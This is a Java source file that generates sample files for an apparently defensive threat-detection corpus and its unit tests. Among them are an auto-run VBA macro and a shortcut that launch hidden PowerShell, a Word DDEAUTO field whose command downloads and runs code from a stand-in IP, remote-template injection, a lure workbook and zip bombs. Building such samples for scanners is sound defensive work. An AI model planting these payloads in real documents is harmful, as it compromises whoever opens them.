package org.tegami.threat.corpus;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.poi.openxml4j.opc.OPCPackage;
import org.apache.poi.openxml4j.opc.PackagePart;
import org.apache.poi.openxml4j.opc.PackagePartName;
import org.apache.poi.openxml4j.opc.PackagingURIHelper;
import org.apache.poi.openxml4j.opc.TargetMode;
import org.apache.poi.poifs.filesystem.DirectoryEntry;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbookType;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/**
 * Real binary files for the corpus and the unit tests: executables' headers, archives (plain,
 * ZipCrypto-encrypted, nested, bombs, RAR, gzip), disk images, shortcuts, Office documents with
 * and without VBA projects (built with Apache POI), PDFs with and without active content.
 */
public final class CorpusFiles {

    private static final long FIXED_TIME = 1_717_372_800_000L; // 2024-06-03, for reproducible zips

    private CorpusFiles() {}

    /** A Windows PE: DOS header, stub, "PE\0\0" signature and a COFF header for x86-64. */
    public static byte[] pe() {
        byte[] b = new byte[1024];
        b[0] = 'M';
        b[1] = 'Z';
        put32(b, 0x3c, 0x80);
        byte[] stub = "This program cannot be run in DOS mode.\r\r\n$".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(stub, 0, b, 0x4e, stub.length);
        b[0x80] = 'P';
        b[0x81] = 'E';
        b[0x84] = 0x64;
        b[0x85] = (byte) 0x86; // machine AMD64
        b[0x86] = 3; // sections
        return b;
    }

    public static byte[] elf() {
        byte[] b = new byte[512];
        b[0] = 0x7f;
        b[1] = 'E';
        b[2] = 'L';
        b[3] = 'F';
        b[4] = 2;
        b[5] = 1;
        b[6] = 1;
        b[16] = 2;
        b[18] = 0x3e;
        return b;
    }

    public static byte[] macho() {
        byte[] b = new byte[512];
        b[0] = (byte) 0xcf;
        b[1] = (byte) 0xfa;
        b[2] = (byte) 0xed;
        b[3] = (byte) 0xfe;
        b[4] = 7;
        b[7] = 1;
        return b;
    }

    /** A Windows shell link ([MS-SHLLINK]) header pointing at cmd.exe. */
    public static byte[] lnk() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, (byte) 0xc0, 0, 0, 0, 0, 0, 0, 0x46});
        out.writeBytes(new byte[56]);
        out.writeBytes("C:\\Windows\\System32\\cmd.exe /c powershell -w hidden -enc SQBFAFgA".getBytes(StandardCharsets.UTF_16LE));
        return out.toByteArray();
    }

    /** An ISO 9660 image: 16 empty system sectors, then a primary volume descriptor. */
    public static byte[] iso(String volumeId) {
        byte[] b = new byte[0x8000 + 2048 * 2];
        int p = 0x8000;
        b[p] = 1;
        System.arraycopy("CD001".getBytes(StandardCharsets.US_ASCII), 0, b, p + 1, 5);
        b[p + 6] = 1;
        byte[] id = volumeId.getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(id, 0, b, p + 40, Math.min(32, id.length));
        int t = p + 2048;
        b[t] = (byte) 255;
        System.arraycopy("CD001".getBytes(StandardCharsets.US_ASCII), 0, b, t + 1, 5);
        return b;
    }

    /** A OneNote section header GUID followed by padding. */
    public static byte[] onenote() {
        byte[] b = new byte[1024];
        byte[] g = {(byte) 0xe4, 0x52, 0x5c, 0x7b, (byte) 0x8c, (byte) 0xd8, (byte) 0xa7, 0x4d, (byte) 0xae, (byte) 0xb1, 0x53, 0x78,
            (byte) 0xd0, 0x29, (byte) 0x96, (byte) 0xd3};
        System.arraycopy(g, 0, b, 0, g.length);
        return b;
    }

    /**
     * A 7-Zip archive as 7-Zip writes it with a password and -mhe (data and file names
     * encrypted): the signature header, pseudo-random packed data, and an encoded header whose
     * coder list names AES-256 + SHA-256 (06 F1 07 01), the only part left in clear.
     */
    public static byte[] sevenZipEncrypted(int dataLength) {
        byte[] packed = new byte[dataLength];
        new java.util.Random(dataLength).nextBytes(packed);
        ByteArrayOutputStream h = new ByteArrayOutputStream();
        int[] header = {0x17, 0x06, 0x00, 0x01, 0x09, dataLength & 0x7f, 0x00, 0x07, 0x0b, 0x01, 0x00,
            0x01, 0x24, 0x06, 0xf1, 0x07, 0x01, 0x0a, 0xd3, 0x13, 0x5e, 0x21, 0x7a, 0x4c, 0x09, 0x2b, 0x1f, 0x66,
            0x0c, dataLength & 0x7f, 0x00, 0x00};
        for (int b : header) {
            h.write(b);
        }
        byte[] next = h.toByteArray();
        CRC32 nextCrc = new CRC32();
        nextCrc.update(next);
        ByteArrayOutputStream start = new ByteArrayOutputStream();
        put32(start, packed.length);
        put32(start, 0);
        put32(start, next.length);
        put32(start, 0);
        put32(start, (int) nextCrc.getValue());
        byte[] startHeader = start.toByteArray();
        CRC32 startCrc = new CRC32();
        startCrc.update(startHeader);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {'7', 'z', (byte) 0xbc, (byte) 0xaf, 0x27, 0x1c, 0, 4});
        put32(out, (int) startCrc.getValue());
        out.writeBytes(startHeader);
        out.writeBytes(packed);
        out.writeBytes(next);
        return out.toByteArray();
    }

    /** A fixed virtual hard disk (VHD): data followed by the 512-byte "conectix" footer. */
    public static byte[] vhd() {
        byte[] b = new byte[4096 + 512];
        System.arraycopy("conectix".getBytes(StandardCharsets.US_ASCII), 0, b, 4096, 8);
        return b;
    }

    /** A plain zip of name -> content, deflated, with fixed timestamps. */
    public static byte[] zip(Map<String, byte[]> entries) {
        ByteArrayOutputStream bo = new ByteArrayOutputStream();
        try (ZipOutputStream z = new ZipOutputStream(bo, StandardCharsets.UTF_8)) {
            for (Map.Entry<String, byte[]> e : entries.entrySet()) {
                ZipEntry ze = new ZipEntry(e.getKey());
                ze.setTime(FIXED_TIME);
                z.putNextEntry(ze);
                z.write(e.getValue());
                z.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bo.toByteArray();
    }

    public static byte[] zip(String name, byte[] content) {
        return zip(Map.of(name, content));
    }

    /** A zip whose entries are stored and encrypted with traditional PKWARE (ZipCrypto) encryption. */
    public static byte[] encryptedZip(Map<String, byte[]> entries, String password) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ByteArrayOutputStream central = new ByteArrayOutputStream();
        int count = 0;
        for (Map.Entry<String, byte[]> e : entries.entrySet()) {
            byte[] name = e.getKey().getBytes(StandardCharsets.UTF_8);
            byte[] data = e.getValue();
            CRC32 crc = new CRC32();
            crc.update(data);
            long c = crc.getValue();
            ZipCrypto zc = new ZipCrypto(password);
            byte[] header = new byte[12];
            for (int i = 0; i < 11; i++) {
                header[i] = (byte) (i * 37 + name.length);
            }
            header[11] = (byte) (c >>> 24);
            byte[] enc = new byte[12 + data.length];
            for (int i = 0; i < 12; i++) {
                enc[i] = zc.encrypt(header[i]);
            }
            for (int i = 0; i < data.length; i++) {
                enc[12 + i] = zc.encrypt(data[i]);
            }
            int offset = out.size();
            int flags = 0x0001 | 0x0800;
            writeLocal(out, name, flags, 0, c, enc.length, data.length);
            out.writeBytes(enc);
            writeCentral(central, name, flags, 0, c, enc.length, data.length, offset);
            count++;
        }
        int cdOffset = out.size();
        out.writeBytes(central.toByteArray());
        writeEnd(out, count, central.size(), cdOffset);
        return out.toByteArray();
    }

    private static final class ZipCrypto {
        private int k0 = 0x12345678;
        private int k1 = 0x23456789;
        private int k2 = 0x34567890;

        ZipCrypto(String password) {
            for (byte b : password.getBytes(StandardCharsets.UTF_8)) {
                update(b);
            }
        }

        private static int crc(int crc, byte b) {
            int c = (crc ^ b) & 0xff;
            for (int k = 0; k < 8; k++) {
                c = (c & 1) != 0 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
            }
            return (crc >>> 8) ^ c;
        }

        private void update(byte b) {
            k0 = crc(k0, b);
            k1 = k1 + (k0 & 0xff);
            k1 = k1 * 134775813 + 1;
            k2 = crc(k2, (byte) (k1 >>> 24));
        }

        byte encrypt(byte plain) {
            int t = (k2 | 2) & 0xffff;
            byte key = (byte) ((t * (t ^ 1)) >>> 8);
            update(plain);
            return (byte) (plain ^ key);
        }
    }

    private static void writeLocal(ByteArrayOutputStream o, byte[] name, int flags, int method, long crc, long csize, long size) {
        put32(o, 0x04034b50);
        put16(o, 20);
        put16(o, flags);
        put16(o, method);
        put16(o, 0);
        put16(o, 0x58c3);
        put32(o, (int) crc);
        put32(o, (int) csize);
        put32(o, (int) size);
        put16(o, name.length);
        put16(o, 0);
        o.writeBytes(name);
    }

    private static void writeCentral(ByteArrayOutputStream o, byte[] name, int flags, int method, long crc, long csize, long size,
                                     int offset) {
        put32(o, 0x02014b50);
        put16(o, 20);
        put16(o, 20);
        put16(o, flags);
        put16(o, method);
        put16(o, 0);
        put16(o, 0x58c3);
        put32(o, (int) crc);
        put32(o, (int) csize);
        put32(o, (int) size);
        put16(o, name.length);
        put16(o, 0);
        put16(o, 0);
        put16(o, 0);
        put16(o, 0);
        put32(o, 0);
        put32(o, offset);
        o.writeBytes(name);
    }

    private static void writeEnd(ByteArrayOutputStream o, int count, int cdSize, int cdOffset) {
        put32(o, 0x06054b50);
        put16(o, 0);
        put16(o, 0);
        put16(o, count);
        put16(o, count);
        put32(o, cdSize);
        put32(o, cdOffset);
        put16(o, 0);
    }

    /** A zip with one entry of {@code megabytes} MB of zeros (a decompression bomb at scale). */
    public static byte[] zeroBomb(String name, int megabytes) {
        ByteArrayOutputStream bo = new ByteArrayOutputStream();
        try (ZipOutputStream z = new ZipOutputStream(bo)) {
            z.setLevel(Deflater.BEST_COMPRESSION);
            ZipEntry ze = new ZipEntry(name);
            ze.setTime(FIXED_TIME);
            z.putNextEntry(ze);
            byte[] mb = new byte[1 << 20];
            for (int i = 0; i < megabytes; i++) {
                z.write(mb);
            }
            z.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bo.toByteArray();
    }

    /** A runnable jar: manifest plus one class file. */
    public static byte[] jar() {
        Map<String, byte[]> m = new LinkedHashMap<>();
        m.put("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nMain-Class: Loader\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        byte[] cls = new byte[64];
        cls[0] = (byte) 0xca;
        cls[1] = (byte) 0xfe;
        cls[2] = (byte) 0xba;
        cls[3] = (byte) 0xbe;
        cls[7] = 52;
        m.put("Loader.class", cls);
        return zip(m);
    }

    /** A RAR 4 archive with one stored file. */
    public static byte[] rar4(String name, byte[] data, boolean encrypted) {
        ByteArrayOutputStream o = new ByteArrayOutputStream();
        o.writeBytes(new byte[] {'R', 'a', 'r', '!', 0x1a, 0x07, 0x00});
        o.writeBytes(new byte[] {(byte) 0xcf, (byte) 0x90, 0x73, 0x00, 0x00, 0x0d, 0x00, 0, 0, 0, 0, 0, 0});
        byte[] n = name.getBytes(StandardCharsets.ISO_8859_1);
        int flags = 0x8000 | (encrypted ? 0x04 : 0);
        ByteArrayOutputStream h = new ByteArrayOutputStream();
        h.write(0x74);
        put16(h, flags);
        put16(h, 32 + n.length);
        put32(h, data.length);
        put32(h, data.length);
        h.write(2);
        CRC32 crc = new CRC32();
        crc.update(data);
        put32(h, (int) crc.getValue());
        put32(h, 0x58c3_0000);
        h.write(20);
        h.write(0x30);
        put16(h, n.length);
        put32(h, 0x20);
        h.writeBytes(n);
        byte[] hb = h.toByteArray();
        CRC32 hc = new CRC32();
        hc.update(hb);
        put16(o, (int) hc.getValue());
        o.writeBytes(hb);
        o.writeBytes(data);
        o.writeBytes(new byte[] {(byte) 0xc4, 0x3d, 0x7b, 0x00, 0x40, 0x07, 0x00});
        return o.toByteArray();
    }

    /** gzip with the original file name recorded (FNAME). */
    public static byte[] gzip(String name, byte[] data) {
        ByteArrayOutputStream o = new ByteArrayOutputStream();
        o.writeBytes(new byte[] {0x1f, (byte) 0x8b, 8, 8, 0, 0, 0, 0, 0, 3});
        o.writeBytes(name.getBytes(StandardCharsets.ISO_8859_1));
        o.write(0);
        Deflater d = new Deflater(Deflater.DEFAULT_COMPRESSION, true);
        d.setInput(data);
        d.finish();
        byte[] buf = new byte[data.length + 1024];
        int n = d.deflate(buf);
        d.end();
        o.write(buf, 0, n);
        CRC32 crc = new CRC32();
        crc.update(data);
        put32(o, (int) crc.getValue());
        put32(o, data.length);
        return o.toByteArray();
    }

    // ---- Office documents -------------------------------------------------------------------

    /** A vbaProject.bin: an OLE2 file with a VBA storage holding a module with an AutoOpen macro. */
    public static byte[] vbaProject() {
        try (POIFSFileSystem fs = new POIFSFileSystem()) {
            DirectoryEntry root = fs.getRoot();
            fillVba(root.createDirectory("VBA"));
            root.createDocument("PROJECT", new ByteArrayInputStream(
                    "ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nDocument=ThisDocument/&H00000000\r\nName=\"Project\"\r\n"
                            .getBytes(StandardCharsets.US_ASCII)));
            root.createDocument("PROJECTwm", new ByteArrayInputStream("ThisDocument\0T\0h\0\0\0".getBytes(StandardCharsets.US_ASCII)));
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            fs.writeFilesystem(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void fillVba(DirectoryEntry vba) throws IOException {
        vba.createDocument("_VBA_PROJECT", new ByteArrayInputStream(new byte[] {(byte) 0xcc, 0x61, (byte) 0xff, (byte) 0xff, 0, 0, 0}));
        String source = "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n  Shell \"powershell -w hidden -enc SQBFAFgA\"\r\nEnd Sub\r\n";
        vba.createDocument("dir", new ByteArrayInputStream(ovbaLiteral("ThisDocument".getBytes(StandardCharsets.US_ASCII))));
        vba.createDocument("ThisDocument", new ByteArrayInputStream(ovbaLiteral(source.getBytes(StandardCharsets.US_ASCII))));
    }

    /** MS-OVBA "compressed" container holding uncompressed chunks (valid per [MS-OVBA] 2.4.1). */
    private static byte[] ovbaLiteral(byte[] data) {
        ByteArrayOutputStream o = new ByteArrayOutputStream();
        o.write(1);
        for (int off = 0; off < data.length; off += 4096) {
            byte[] chunk = new byte[4096];
            System.arraycopy(data, off, chunk, 0, Math.min(4096, data.length - off));
            int header = 0x3000 | (4096 + 2 - 3); // size-3, signature 0b011, flag 0 = raw chunk
            put16(o, header);
            o.writeBytes(chunk);
        }
        return o.toByteArray();
    }

    /** A legacy Word 97 (.doc) OLE2 file with a Macros/VBA storage. */
    public static byte[] docWithMacro() {
        try (POIFSFileSystem fs = new POIFSFileSystem()) {
            DirectoryEntry root = fs.getRoot();
            root.createDocument("WordDocument", new ByteArrayInputStream(new byte[4096]));
            root.createDocument("1Table", new ByteArrayInputStream(new byte[1024]));
            DirectoryEntry macros = root.createDirectory("Macros");
            fillVba(macros.createDirectory("VBA"));
            macros.createDocument("PROJECT", new ByteArrayInputStream("Document=ThisDocument/&H00000000\r\n".getBytes(StandardCharsets.US_ASCII)));
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            fs.writeFilesystem(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A legacy Excel 97 (.xls) OLE2 file with a _VBA_PROJECT_CUR storage. */
    public static byte[] xlsWithMacro() {
        try (POIFSFileSystem fs = new POIFSFileSystem()) {
            DirectoryEntry root = fs.getRoot();
            root.createDocument("Workbook", new ByteArrayInputStream(new byte[8192]));
            DirectoryEntry cur = root.createDirectory("_VBA_PROJECT_CUR");
            fillVba(cur.createDirectory("VBA"));
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            fs.writeFilesystem(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A legacy .doc without macros. */
    public static byte[] docPlain() {
        try (POIFSFileSystem fs = new POIFSFileSystem()) {
            fs.getRoot().createDocument("WordDocument", new ByteArrayInputStream(new byte[4096]));
            fs.getRoot().createDocument("1Table", new ByteArrayInputStream(new byte[1024]));
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            fs.writeFilesystem(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A .docx with the given paragraphs. */
    public static byte[] docx(String... paragraphs) {
        try (XWPFDocument doc = new XWPFDocument()) {
            for (String p : paragraphs) {
                doc.createParagraph().createRun().setText(p);
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            doc.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A .docm: a Word document with a vbaProject.bin part and the macro-enabled content type. */
    public static byte[] docm(String text) {
        try (XWPFDocument doc = new XWPFDocument()) {
            doc.createParagraph().createRun().setText(text);
            OPCPackage pkg = doc.getPackage();
            PackagePartName name = PackagingURIHelper.createPartName("/word/vbaProject.bin");
            PackagePart part = pkg.createPart(name, "application/vnd.ms-office.vbaProject");
            try (var os = part.getOutputStream()) {
                os.write(vbaProject());
            }
            doc.getPackagePart().addRelationship(name, TargetMode.INTERNAL,
                    "http://schemas.microsoft.com/office/2006/relationships/vbaProject");
            pkg.replaceContentType("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    "application/vnd.ms-word.document.macroEnabled.main+xml");
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            doc.write(out);
            return out.toByteArray();
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    /** An .xlsm workbook with a VBA project (POI's own XLSM support). */
    public static byte[] xlsm() {
        try (XSSFWorkbook wb = new XSSFWorkbook(XSSFWorkbookType.XLSM)) {
            wb.createSheet("Invoice").createRow(0).createCell(0).setCellValue("Enable content to view the invoice");
            wb.setVBAProject(new ByteArrayInputStream(vbaProject()));
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            wb.write(out);
            return out.toByteArray();
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    /** A plain .xlsx with rows of values. */
    public static byte[] xlsx(String[][] rows) {
        try (XSSFWorkbook wb = new XSSFWorkbook()) {
            var sheet = wb.createSheet("Sheet1");
            for (int r = 0; r < rows.length; r++) {
                var row = sheet.createRow(r);
                for (int c = 0; c < rows[r].length; c++) {
                    row.createCell(c).setCellValue(rows[r][c]);
                }
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            wb.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A .docx whose settings load a template from a remote URL (template injection). */
    public static byte[] docxRemoteTemplate(String url) {
        byte[] base = docx("Please enable editing to view this document.");
        return rewriteZip(base, Map.of("word/_rels/settings.xml.rels", x ->
                "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n"
                        + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                        + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
                        + "Target=\"" + url + "\" TargetMode=\"External\"/></Relationships>"));
    }

    /** A .docx with a DDEAUTO field that runs a command. */
    public static byte[] docxDde() {
        byte[] base = docx("DDEPLACEHOLDER");
        return rewriteZip(base, Map.of("word/document.xml", x -> x.replace("<w:t>DDEPLACEHOLDER</w:t>",
                "<w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
                        + "\"/k powershell -c IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\" </w:instrText></w:r>"
                        + "<w:r><w:fldChar w:fldCharType=\"end\"/>")));
    }

    /** Copies a zip, transforming (or adding) the named text entries. */
    static byte[] rewriteZip(byte[] zip, Map<String, UnaryOperator<String>> edits) {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            ZipEntry e;
            while ((e = in.getNextEntry()) != null) {
                entries.put(e.getName(), in.readAllBytes());
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        for (Map.Entry<String, UnaryOperator<String>> ed : edits.entrySet()) {
            byte[] old = entries.getOrDefault(ed.getKey(), new byte[0]);
            entries.put(ed.getKey(), ed.getValue().apply(new String(old, StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_8));
        }
        return zip(entries);
    }

    // ---- PDF ---------------------------------------------------------------------------------

    /** A one-page PDF; {@code catalogExtra} goes into the catalog, {@code extraObjects} are appended (numbered from 5). */
    public static byte[] pdf(String text, String catalogExtra, String... extraObjects) {
        java.util.List<String> objs = new java.util.ArrayList<>();
        objs.add("<< /Type /Catalog /Pages 2 0 R " + catalogExtra + " >>");
        objs.add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
        objs.add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
                + "/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>");
        String content = "BT /F1 12 Tf 72 720 Td (" + text + ") Tj ET";
        objs.add("<< /Length " + content.length() + " >>\nstream\n" + content + "\nendstream");
        objs.addAll(java.util.List.of(extraObjects));
        return pdfFromObjects(objs);
    }

    static byte[] pdfFromObjects(java.util.List<String> objs) {
        ByteArrayOutputStream o = new ByteArrayOutputStream();
        o.writeBytes("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n".getBytes(StandardCharsets.ISO_8859_1));
        int[] offsets = new int[objs.size()];
        for (int i = 0; i < objs.size(); i++) {
            offsets[i] = o.size();
            o.writeBytes(((i + 1) + " 0 obj\n" + objs.get(i) + "\nendobj\n").getBytes(StandardCharsets.ISO_8859_1));
        }
        int xref = o.size();
        StringBuilder sb = new StringBuilder("xref\n0 " + (objs.size() + 1) + "\n0000000000 65535 f \n");
        for (int off : offsets) {
            sb.append(String.format("%010d 00000 n \n", off));
        }
        sb.append("trailer\n<< /Size ").append(objs.size() + 1).append(" /Root 1 0 R >>\nstartxref\n").append(xref).append("\n%%EOF\n");
        o.writeBytes(sb.toString().getBytes(StandardCharsets.ISO_8859_1));
        return o.toByteArray();
    }

    /** A stream object whose data is zlib-compressed (FlateDecode). */
    public static String flateStream(String dictExtra, String data) {
        Deflater d = new Deflater();
        d.setInput(data.getBytes(StandardCharsets.ISO_8859_1));
        d.finish();
        byte[] buf = new byte[data.length() + 256];
        int n = d.deflate(buf);
        d.end();
        return "<< /Length " + n + " /Filter /FlateDecode " + dictExtra + " >>\nstream\n"
                + new String(buf, 0, n, StandardCharsets.ISO_8859_1) + "\nendstream";
    }

    // ---- images ------------------------------------------------------------------------------

    public static byte[] image(String format, int w, int h, int rgb) {
        BufferedImage img = new BufferedImage(w, h, BufferedImage.TYPE_INT_RGB);
        for (int y = 0; y < h; y++) {
            for (int x = 0; x < w; x++) {
                img.setRGB(x, y, rgb ^ (x * 7 + y * 13));
            }
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            ImageIO.write(img, format, out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    // ---- little-endian helpers ------------------------------------------------------------------

    private static void put16(ByteArrayOutputStream o, int v) {
        o.write(v & 0xff);
        o.write((v >>> 8) & 0xff);
    }

    private static void put32(ByteArrayOutputStream o, int v) {
        put16(o, v & 0xffff);
        put16(o, (v >>> 16) & 0xffff);
    }

    private static void put32(byte[] b, int off, int v) {
        b[off] = (byte) v;
        b[off + 1] = (byte) (v >>> 8);
        b[off + 2] = (byte) (v >>> 16);
        b[off + 3] = (byte) (v >>> 24);
    }
}
